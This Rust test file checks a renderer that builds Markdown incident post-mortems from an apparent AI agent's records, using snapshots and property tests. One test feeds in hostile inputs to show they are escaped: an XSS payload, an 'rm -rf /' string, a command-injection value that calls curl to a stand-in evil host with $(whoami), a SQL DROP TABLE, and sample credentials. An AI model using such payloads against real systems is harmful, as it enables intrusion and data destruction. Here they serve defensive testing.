use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::{
    domain::incident::{classification::Status, timeline::EventKind},
    render::example::{
        DAILY_ETL, HOSTILE, NO_RUN_OUTPUT, RecordedIncident, VALIDATION, assert_safe, hostile_text, recorded, report,
        time,
    },
};

fn rendered(json: &str) -> String {
    markdown(&recorded(report(json)).record(), None)
}

fn with(change: impl FnOnce(&mut Value)) -> RecordedIncident {
    let mut document: Value = serde_json::from_str(DAILY_ETL).unwrap();
    change(&mut document);
    recorded(report(&document.to_string()))
}

/// The section below a heading.
fn section(text: &str, heading: &str) -> String {
    let (_, rest) = text.split_once(&format!("## {heading}\n")).unwrap();
    rest.split("\n## ").next().unwrap().trim().to_owned()
}

#[test]
fn a_resolved_incident_has_all_sections() {
    let runbook = "RUNBOOK ENTRY\n=============\nTitle: Fix Job Retry Policies - daily-etl\n";
    insta::assert_snapshot!(markdown(&recorded(report(DAILY_ETL)).record(), Some(runbook)), @r#"
    # Post-mortem INC-1042: daily-etl failed: transient timeout, no retry policy

    | | |
    | --- | --- |
    | Type | job-failure |
    | Status | resolved |
    | Confidence in the cause | HIGH |
    | Reported | 2026-02-11T12:21:00Z |
    | Reporter | oncall-data@example.test |
    | Resolved | 2026-02-11T12:36:00Z |
    | Resource | job 360515640572923: daily-etl |
    | Workspace | 7405612783315468 |

    ## Summary

    Job "daily-etl" failed due to no retry policy; transient workload error -&gt; no automatic recovery.

    ## Impact

    - Began: 2026-02-11T12:05:11Z
    - Affected: job_id=360515640572923, job_run_id=236083407514246, task_run_id=236083407514299, workspace_id=7405612783315468
    - Compliance: Reliability category moved from FAIL to PASS

    | Duration | Definition | Measured |
    | --- | --- | --- |
    | Time to detect | detected − impact start | 14m 29s |
    | Time to acknowledge | first explicit ACK − reported | n/a |
    | Time to mitigate | first successful REMEDIATE or VERIFY − detected | 9m 50s |
    | Time to resolve | first resolved − reported | 15m |

    ## Contributing factors

    - Job retry policies not configured (max_retries=0)
      - Confidence: HIGH
      - Error class: java.lang.NullPointerException
      - Error: Cannot invoke "String.length()" because "payload" is null
      - Termination code: RUN_EXECUTION_ERROR
      - Evidence: run_output, notebook_source
    - Failed check (MEDIUM): Reliability / Job retry policy: No job retry policies

    ## Timeline

    ### 2026-02-11 (UTC)

    - 12:21:04 **DISCOVER** Found 3 jobs, 1 with failed run — agent:databricks_mcp_agent, with list_jobs
    - 12:21:19 **FETCH** Retrieved run output; error: "NullPointerException" — agent:databricks_mcp_agent, with get_run_output
      - Evidence: run_output `task_run:236083407514299`

        ```text
        java.lang.NullPointerException: Cannot invoke "String.length()" because "payload" is null
        ```

    - 12:23:47 **ANALYZE** Read notebook code; identified line 42 as root cause — agent:databricks_mcp_agent, with export_notebook
      - Evidence: notebook_source `/Workspace/etl/transform:42`

        ```text
        payload = json.loads(row.raw)["payload"]
        ```

    - 12:26:02 **RCA** Timeout + no retries + unparsed JSON input -&gt; HIGH confidence — agent:databricks_mcp_agent
    - 12:29:30 **REMEDIATE** Applied max_retries=3, timeout=3600 to task transform — agent:databricks_mcp_agent
    - 12:35:12 **VERIFY** Re-ran job; SUCCESS — agent:databricks_mcp_agent, with run_job
    - 12:36:00 **CLOSE** Incident resolved — agent:databricks_mcp_agent

    ## What went well

    n/a: no lesson begins with `went well:`

    ## What went badly

    n/a: no lesson begins with `went badly:`

    ## What we learned

    - Every scheduled job needs a retry policy
    - Reject rows whose payload is null before transform

    ## Action items

    - [x] Fix Job Retry Policies - daily-etl (job_settings): applied, result SUCCESS
    - [ ] Lesson: Every scheduled job needs a retry policy
    - [ ] Lesson: Reject rows whose payload is null before transform

    ## Runbook

    ```text
    RUNBOOK ENTRY
    =============
    Title: Fix Job Retry Policies - daily-etl
    ```

    ## Proof

    Rows of `audit_log`; `entry_hash` is the lower-case hex SHA-256 of `prev_hash` followed by `entry`.

    | seq | Recorded | Request | entry\_hash |
    | --- | --- | --- | --- |
    | 17 | 2026-02-20T12:36:00Z | rca-2026-02-11-daily-etl-236083407514246 | 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c |

    `ops-runbook audit verify` proves that the log has these rows and was not changed.
    "#);
}

#[test]
fn an_unknown_cause_shows_the_missing_evidence() {
    insta::assert_snapshot!(rendered(NO_RUN_OUTPUT), @r"
    # Post-mortem INC-1042: marts-refresh failed, run output cannot be read

    | | |
    | --- | --- |
    | Type | job-failure |
    | Status | investigating |
    | Confidence in the cause | LOW |
    | Reported | 2026-02-18T07:00:00Z |
    | Reporter | agent:databricks_mcp_agent |
    | Resolved | n/a |
    | Resource | job 99887766554433: marts-refresh |
    | Workspace | 7405612783315468 |

    ## Summary

    unknown

    ## Impact

    - Began: n/a
    - Affected: job_id=99887766554433, job_run_id=236083407514246, workspace_id=7405612783315468
    - Compliance: n/a

    | Duration | Definition | Measured |
    | --- | --- | --- |
    | Time to detect | detected − impact start | n/a |
    | Time to acknowledge | first explicit ACK − reported | n/a |
    | Time to mitigate | first successful REMEDIATE or VERIFY − detected | n/a |
    | Time to resolve | first resolved − reported | n/a |

    ## Contributing factors

    - unknown
      - Confidence: LOW
      - Missing evidence: run_output, notebook_source

    ## Timeline

    ### 2026-02-18 (UTC)

    - 07:00:09 **FETCH** Cannot retrieve run output for run_id=236083407514246: PERMISSION_DENIED — agent:databricks_mcp_agent, with get_run_output

    ## What went well

    n/a: no lesson begins with `went well:`

    ## What went badly

    n/a: no lesson begins with `went badly:`

    ## What we learned

    n/a: no other lesson was recorded

    ## Action items

    n/a: no step, failed check or lesson was recorded

    ## Runbook

    n/a: no runbook was generated for this incident

    ## Proof

    Rows of `audit_log`; `entry_hash` is the lower-case hex SHA-256 of `prev_hash` followed by `entry`.

    | seq | Recorded | Request | entry\_hash |
    | --- | --- | --- | --- |
    | 17 | 2026-02-20T12:36:00Z | rca-2026-02-18-run-236083407514246 | 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c |

    `ops-runbook audit verify` proves that the log has these rows and was not changed.
    ");
}

#[test]
fn failed_checks_of_a_validation_are_action_items() {
    insta::assert_snapshot!(rendered(VALIDATION), @r"
    # Post-mortem INC-1042: Best-practice validation of the workspace

    | | |
    | --- | --- |
    | Type | security-finding |
    | Status | investigating |
    | Confidence in the cause | n/a |
    | Reported | 2026-02-19T06:00:00Z |
    | Reporter | schedule:weekly-validation |
    | Resolved | n/a |
    | Resource | workspace 7405612783315468 |
    | Workspace | 7405612783315468 |

    ## Summary

    Best-practice validation of the workspace

    ## Impact

    - Began: n/a
    - Affected: workspace_id=7405612783315468
    - Compliance: n/a

    | Duration | Definition | Measured |
    | --- | --- | --- |
    | Time to detect | detected − impact start | n/a |
    | Time to acknowledge | first explicit ACK − reported | n/a |
    | Time to mitigate | first successful REMEDIATE or VERIFY − detected | n/a |
    | Time to resolve | first resolved − reported | n/a |

    ## Contributing factors

    - Failed check (HIGH): Security / Unity Catalog enabled: No metastore attached
    - Failed check (HIGH): Security / Encryption at rest with customer keys: No encryption configured for the root bucket

    ## Timeline

    ### 2026-02-19 (UTC)

    - 06:00:05 **DISCOVER** 12 jobs, 3 warehouses, 0 catalogs — agent:databricks_mcp_agent

    ## What went well

    n/a: no lesson begins with `went well:`

    ## What went badly

    n/a: no lesson begins with `went badly:`

    ## What we learned

    n/a: no other lesson was recorded

    ## Action items

    - [ ] Failed check without a step: Security / Unity Catalog enabled
    - [ ] Failed check without a step: Security / Encryption at rest with customer keys

    ## Runbook

    n/a: no runbook was generated for this incident

    ## Proof

    Rows of `audit_log`; `entry_hash` is the lower-case hex SHA-256 of `prev_hash` followed by `entry`.

    | seq | Recorded | Request | entry\_hash |
    | --- | --- | --- | --- |
    | 17 | 2026-02-20T12:36:00Z | validate-2026-02-19-ws-7405612783315468 | 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c |

    `ops-runbook audit verify` proves that the log has these rows and was not changed.
    ");
}

#[test]
fn hostile_names_are_shown_and_do_nothing() {
    let text = rendered(HOSTILE);
    assert_safe(&text);
    insta::assert_snapshot!(text, @r"
    # Post-mortem INC-1042: &lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; \| job \| \`rm -rf /\` &lt;!channel&gt; \\u{202e}gnp.exe

    | | |
    | --- | --- |
    | Type | job-failure |
    | Status | investigating |
    | Confidence in the cause | MEDIUM |
    | Reported | 2026-02-20T10:00:00Z |
    | Reporter | oncall@example.test |
    | Resolved | n/a |
    | Resource | job 1: x'; curl http\://evil.example.test/\$(whoami) #\\n; DROP TABLE audit_log; -- |
    | Workspace | 7405612783315468 |

    ## Summary

    Expired token in the job's secret scope

    ## Impact

    - Began: n/a
    - Affected: job_id=1, workspace_id=7405612783315468
    - Compliance: n/a

    | Duration | Definition | Measured |
    | --- | --- | --- |
    | Time to detect | detected − impact start | n/a |
    | Time to acknowledge | first explicit ACK − reported | n/a |
    | Time to mitigate | first successful REMEDIATE or VERIFY − detected | n/a |
    | Time to resolve | first resolved − reported | n/a |

    ## Contributing factors

    - Expired token in the job's secret scope
      - Confidence: MEDIUM
      - Evidence: run_output

    ## Timeline

    ### 2026-02-20 (UTC)

    - 10:00:03 **FETCH** 401 for Authorization: Bearer dapi0123456789abcdef0123456789abcdef-2 while calling https\://hooks.slack.com/services/T00000000/B00000000/abcdefghijklmnopqrstuvwx — agent:databricks_mcp_agent
    - 10:00:09 **ANALYZE** spark.hadoop.fs.azure.account.key.acct.dfs.core.windows.net=Zm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYmFyZm9vYg==; jdbc:postgresql\://db.example.test/x?user=svc&amp;password=hunter2hunter2 — agent:databricks_mcp_agent

    ## What went well

    n/a: no lesson begins with `went well:`

    ## What went badly

    n/a: no lesson begins with `went badly:`

    ## What we learned

    n/a: no other lesson was recorded

    ## Action items

    - [ ] Raise timeout (job_settings): not applied

    ## Runbook

    n/a: no runbook was generated for this incident

    ## Proof

    Rows of `audit_log`; `entry_hash` is the lower-case hex SHA-256 of `prev_hash` followed by `entry`.

    | seq | Recorded | Request | entry\_hash |
    | --- | --- | --- | --- |
    | 17 | 2026-02-20T12:36:00Z | rca-2026-02-20-hostile | 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c |

    `ops-runbook audit verify` proves that the log has these rows and was not changed.
    ");
}

/// An incident logged step by step: resolved, reopened, resolved again; one event corrected, one withdrawn, one repeated.
fn reopened() -> RecordedIncident {
    let mut incident = with(|document| {
        document["timeline"] = json!([{ "at": "2026-02-11T12:21:04Z", "kind": "DISCOVER", "message": "1 failed run" }]);
        document["remediation"][0]["result"] = json!("FAILED");
        document["lessons_learned"] = json!([
            "Went well: the page came within a minute",
            "went badly: the owner of transform was unknown",
            "Note: retries hide slow sources"
        ]);
    });
    let first = incident.projections.timeline_events[0].clone();
    let mut event = |seq: u64, at: &str, kind: EventKind, message: &str, supersedes: Option<&str>| {
        incident.projections.timeline_events.push(TimelineEvent {
            seq,
            occurred_at: time(at),
            kind,
            message: message.into(),
            tool: None,
            evidence: None,
            supersedes: supersedes.map(Into::into),
            withdrawn: message.is_empty(),
            duplicate_of: (message == "1 failed run").then(|| "17.1".into()),
            ..first.clone()
        });
    };
    event(18, "2026-02-11T12:25:00Z", EventKind::Ack, "I have it", None);
    event(19, "2026-02-11T12:36:00Z", EventKind::Close, "done", None);
    event(20, "2026-02-11T12:21:04Z", EventKind::Discover, "1 failed run", None);
    event(21, "2026-02-11T14:00:00Z", EventKind::Reopen, "it failed again", None);
    event(22, "2026-02-11T12:24:00Z", EventKind::Ack, "I have had it a minute earlier", Some("18.1"));
    event(23, "2026-02-11T14:05:00Z", EventKind::Note, "wrong window", None);
    event(24, "2026-02-11T14:05:00Z", EventKind::Note, "", Some("23.1"));
    event(25, "2026-02-12T00:36:00Z", EventKind::Close, "done, really", None);
    let state = IncidentState {
        seq: 25,
        status: Status::Resolved,
        acknowledged_at: Some(time("2026-02-11T12:24:00Z")),
        mitigated_at: None,
        first_resolved_at: Some(time("2026-02-11T12:36:00Z")),
        resolved_at: Some(time("2026-02-12T00:36:00Z")),
        reopened: 1,
        open_seconds: Some(15.0 * 60.0 + 10.6 * 3600.0),
        ..incident.projections.incident_states[0].clone()
    };
    incident.projections.incident_states.insert(0, state);
    let mut row = incident.audit[0].clone();
    row.seq = 25;
    row.entry_hash = "c10f".repeat(16);
    incident.audit.insert(0, row);
    incident
}

#[test]
fn a_reopened_incident_shows_only_events_that_count() {
    insta::assert_snapshot!(markdown(&reopened().record(), None), @r#"
    # Post-mortem INC-1042: daily-etl failed: transient timeout, no retry policy

    | | |
    | --- | --- |
    | Type | job-failure |
    | Status | resolved |
    | Confidence in the cause | HIGH |
    | Reported | 2026-02-11T12:21:00Z |
    | Reporter | oncall-data@example.test |
    | Resolved | 2026-02-12T00:36:00Z |
    | Resource | job 360515640572923: daily-etl |
    | Workspace | 7405612783315468 |

    ## Summary

    Job "daily-etl" failed due to no retry policy; transient workload error -&gt; no automatic recovery.

    ## Impact

    - Began: 2026-02-11T12:05:11Z
    - Affected: job_id=360515640572923, job_run_id=236083407514246, task_run_id=236083407514299, workspace_id=7405612783315468
    - Compliance: Reliability category moved from FAIL to PASS
    - Reopened: 1 time

    | Duration | Definition | Measured |
    | --- | --- | --- |
    | Time to detect | detected − impact start | 14m 29s |
    | Time to acknowledge | first explicit ACK − reported | 3m |
    | Time to mitigate | first successful REMEDIATE or VERIFY − detected | n/a |
    | Time to resolve | first resolved − reported | 15m |
    | Time to resolve, in total | sum of the open intervals | 10h 51m |

    ## Contributing factors

    - Job retry policies not configured (max_retries=0)
      - Confidence: HIGH
      - Error class: java.lang.NullPointerException
      - Error: Cannot invoke "String.length()" because "payload" is null
      - Termination code: RUN_EXECUTION_ERROR
      - Evidence: run_output, notebook_source
    - Failed check (MEDIUM): Reliability / Job retry policy: No job retry policies

    ## Timeline

    ### 2026-02-11 (UTC)

    - 12:21:04 **DISCOVER** 1 failed run — agent:databricks_mcp_agent
    - 12:24:00 **ACK** I have had it a minute earlier — agent:databricks_mcp_agent (corrected)
    - 12:36:00 **CLOSE** done — agent:databricks_mcp_agent
    - 14:00:00 **REOPEN** it failed again — agent:databricks_mcp_agent

    ### 2026-02-12 (UTC)

    - 00:36:00 **CLOSE** done, really — agent:databricks_mcp_agent

    (3 events not shown: 1 corrected, 1 withdrawn, 1 repeated)

    ## What went well

    - the page came within a minute

    ## What went badly

    - the owner of transform was unknown

    ## What we learned

    - Note: retries hide slow sources

    ## Action items

    - [ ] Fix Job Retry Policies - daily-etl (job_settings): applied, result FAILED
    - [ ] Lesson: the owner of transform was unknown
    - [ ] Lesson: Note: retries hide slow sources

    ## Runbook

    n/a: no runbook was generated for this incident

    ## Proof

    Rows of `audit_log`; `entry_hash` is the lower-case hex SHA-256 of `prev_hash` followed by `entry`.

    | seq | Recorded | Request | entry\_hash |
    | --- | --- | --- | --- |
    | 17 | 2026-02-20T12:36:00Z | rca-2026-02-11-daily-etl-236083407514246 | 9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c9f2c |
    | 25 | 2026-02-20T12:36:00Z | rca-2026-02-11-daily-etl-236083407514246 | c10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10fc10f |

    `ops-runbook audit verify` proves that the log has these rows and was not changed.
    "#);
}

#[test]
fn an_incident_without_records_is_na_in_every_section() {
    insta::assert_snapshot!(markdown(&IncidentRecord::default(), None), @"
    # Post-mortem n/a: n/a

    | | |
    | --- | --- |
    | Type | n/a |
    | Status | n/a |
    | Confidence in the cause | n/a |
    | Reported | n/a |
    | Reporter | n/a |
    | Resolved | n/a |
    | Resource | n/a |
    | Workspace | n/a |

    ## Summary

    n/a

    ## Impact

    - Began: n/a
    - Affected: n/a
    - Compliance: n/a

    ## Contributing factors

    n/a: no cause was found and no check failed

    ## Timeline

    n/a: no event was recorded

    ## What went well

    n/a: no lesson begins with `went well:`

    ## What went badly

    n/a: no lesson begins with `went badly:`

    ## What we learned

    n/a: no other lesson was recorded

    ## Action items

    n/a: no step, failed check or lesson was recorded

    ## Runbook

    n/a: no runbook was generated for this incident

    ## Proof

    n/a: there is no row of the audit log
    ");
}

#[test]
fn lessons_are_sorted_by_their_prefix() {
    fn check(lesson: &str, expected: Option<(bool, &str)>) {
        assert_eq!(marked(lesson), expected, "{lesson}");
    }
    check("went well: the alert", Some((true, "the alert")));
    check("What went WELL :the alert", Some((true, "the alert")));
    check("Went badly: a: b", Some((false, "a: b")));
    check("It went well", None);
    check("Nothing went well: all failed", None);
}

#[test]
fn a_failed_check_is_an_action_item_unless_a_step_names_it() {
    let items = |title: &str| {
        let incident = with(|document| document["remediation"][0]["title"] = json!(title));
        section(&markdown(&incident.record(), None), "Action items")
    };
    assert!(!items("Set job retry policies").contains("Failed check"));
    assert!(items("Set job timeouts").contains("- [ ] Failed check without a step: Reliability / Job retry policy"));
}

#[test]
fn a_runbook_stays_inside_its_fence() {
    let text = markdown(&IncidentRecord::default(), Some("1. Run\n```\nx\n````\n# done\n\u{1b}[2J"));
    assert_safe(&text);
    insta::assert_snapshot!(section(&text, "Runbook"), @r"
    `````text
    1. Run
    ```
    x
    ````
    # done
    \u{1b}[2J
    `````
    ");
}

/// The elements of the layout without their text: headings, list items, tables, fences.
fn shape(text: &str) -> Vec<String> {
    let (mut shape, mut prose) = (Vec::new(), String::new());
    let mut fence: Option<String> = None;
    for line in text.lines() {
        let inner = line.trim_start();
        let ticks: String = inner.chars().take_while(|c| *c == '`').collect();
        match &fence {
            Some(open) if inner == open => fence = None,
            Some(_) => {}
            None if ticks.len() >= 3 && inner == format!("{ticks}text") => {
                shape.push("fence".into());
                fence = Some(ticks);
            }
            None => {
                prose.extend((!inner.starts_with("- Evidence: ")).then_some(line));
                let indent = line.len() - inner.len();
                let cells = if inner.starts_with('|') { inner.replace("\\|", "").matches('|').count() } else { 0 };
                let marker: String = inner.chars().take_while(|c| "#-=+>|*".contains(*c)).collect();
                shape.push(format!("{indent} {marker} {cells}"));
            }
        }
    }
    assert_eq!(fence, None, "a fence is open at the end");
    // In code it is only a character, and an entity would be shown as such.
    assert!(!prose.contains('<'), "{prose}");
    shape
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn hostile_text_does_not_change_the_layout(
        text in prop_oneof![hostile_text(), "[-#|`<>*_~\n\\[\\]()!&+=1.: \\\\]{1,30}"],
    ) {
        prop_assume!(!text.trim().is_empty());
        let everywhere = |words: &str| {
            let incident = with(|document| {
                document["report_id"] = json!(words);
                document["incident"]["title"] = json!(words);
                document["incident"]["reporter"] = json!(words);
                document["workspace"] = json!({ "id": words, "url": words });
                document["resources"] = json!([{ "kind": words, "id": words, "name": words }]);
                document["timeline"][0]["message"] = json!(words);
                document["timeline"][1]["tool"] = json!(words);
                document["timeline"][1]["evidence"] = json!([{ "kind": words, "ref": words, "excerpt": words }]);
                document["rca"] = json!({
                    "root_cause": words, "summary": words, "confidence": "HIGH", "evidence": [words], "missing_evidence": [words],
                    "error": { "class": words, "message": words, "termination_code": words },
                });
                document["checks"] = json!([{ "category": words, "name": words, "status": "FAIL", "finding": words }]);
                document["remediation"][0]["title"] = json!("step");
                document["compliance_impact"] = json!(words);
                document["lessons_learned"] = json!([words, "x", format!("went well: {words}"), format!("went badly: {words}")]);
            });
            markdown(&incident.record(), Some(words))
        };
        let output = everywhere(&text);
        assert_safe(&output);
        prop_assert_eq!(shape(&output), shape(&everywhere("harmless")), "{}", output);
    }
}
